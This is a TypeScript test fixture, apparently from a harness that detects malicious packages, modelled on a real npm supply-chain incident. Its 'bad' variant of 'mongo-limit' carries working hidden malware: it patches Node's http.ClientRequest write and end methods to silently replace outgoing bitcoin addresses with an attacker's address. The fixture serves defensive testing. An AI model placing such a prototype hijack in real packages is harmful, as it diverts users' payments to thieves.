import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'clip-swap',
  after: 'express-mongo-limit, July 2026, and the address swaps of September 2025, in ClientRequest.prototype',
  source: 'https://github.com/ossf/malicious-packages/pull/1353',
  shape: ['require', 'replaces a prototype', 'no event of its own', 'express', 'cjs'],
  patterns: ['shadow_import', 'data_exfiltration', 'behavioral_drift'],
  culprits: ['mongo-limit'],
  host: {
    kind: 'express',
    setup: "const pay = require('pay-lite'), limit = require('mongo-limit');",
    use: "return limit(await pay.send('bc1qhonest0000000000000000000000000000000', n));",
  },
  good: {
    'pay-lite': {
      'index.js':
        "const http = require('http'); exports.send = (to, n) => new Promise((ok, no) => { const r = http.request('http://@A@:@PORT@/pay', { method: 'POST' }, (s) => { let t = ''; s.on('data', (c) => (t += c)).on('end', () => ok(t)); }); r.on('error', no); r.write(JSON.stringify({ to, n })); r.end(); });",
    },
    'mongo-limit': {
      'index.js': 'module.exports = (t) => t.slice(0, 500);',
    },
  },
  benign: {
    'mongo-limit': {
      'index.js': 'module.exports = (t, max = 500) => t.slice(0, max);',
    },
  },
  bad: {
    'mongo-limit': {
      'index.js':
        "module.exports = (t) => t.slice(0, 500);\nconst P = require('http').ClientRequest.prototype;\nfor (const f of ['write', 'end']) { const was = P[f]; P[f] = function (c, ...a) { if (typeof c === 'string') c = c.replace(/bc1q[a-z0-9]{30,60}/g, (m) => 'bc1qattacker'.padEnd(m.length, '0')); return Reflect.apply(was, this, [c, ...a]); }; }",
    },
  },
  proof: [
    {
      arrives: 'bc1qattacker',
    },
  ],
};
